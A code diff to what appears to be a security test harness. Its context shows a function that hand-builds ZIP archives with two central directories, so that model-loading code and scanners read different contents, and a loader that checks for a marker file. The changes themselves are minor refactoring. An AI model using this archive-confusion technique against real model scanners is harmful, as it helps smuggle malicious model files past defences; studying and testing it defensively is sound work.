@@ -11,6 +11,7 @@ import struct
 import sys
 import warnings
 import zipfile
+import zlib
 from collections.abc import Callable, Iterator
 from contextlib import suppress
 from copy import deepcopy
@@ -137,7 +138,7 @@ def load_fully(path: Path, known: set[str] | None = None) -> str:
     if known is not None:
         known.add(text)
     with suppress(Exception):  # whatever PyTorch says of it: the marker is what matters
-        loaded.model.module()
+        loaded.model.module()  # type: ignore[operator, union-attr]
     return ""
 
 
@@ -221,7 +222,7 @@ def attack_by_two_directories(original: bytes, path: Path, marker: Path) -> Path
     for members in (older, program_members):
         entries = []
         for name, data in members.items():
-            checks = struct.pack("<III", zipfile.crc32(data), len(data), len(data))
+            checks = struct.pack("<III", zlib.crc32(data), len(data), len(data))
             header = struct.pack("<HHHHH", 20, 0, 0, 0, 33) + checks
             entries.append((name.encode(), header, len(stored)))
             stored += b"PK\x03\x04" + header + struct.pack("<HH", len(name), 0) + name.encode() + data
@@ -231,10 +232,10 @@ def attack_by_two_directories(original: bytes, path: Path, marker: Path) -> Path
     found = []
     for entries, own_size, shift in zip(directories, sizes, (size + 22, 0), strict=True):
         directory = b""
-        for index, (name, header, offset) in enumerate(entries):
+        for index, (encoded, header, offset) in enumerate(entries):
             comment = bytes(size - own_size) if index == len(entries) - 1 else b""
-            lengths = struct.pack("<HHHHHII", len(name), 0, len(comment), 0, 0, 0, offset + shift)
-            directory += b"PK\x01\x02" + struct.pack("<H", 20) + header + lengths + name + comment
+            lengths = struct.pack("<HHHHHII", len(encoded), 0, len(comment), 0, 0, 0, offset + shift)
+            directory += b"PK\x01\x02" + struct.pack("<H", 20) + header + lengths + encoded + comment
         found.append(directory)
     count, end = len(older), len(stored) + size
     record = struct.pack("<HHHHIIH", 0, 0, count, count, size, end + 22, size)
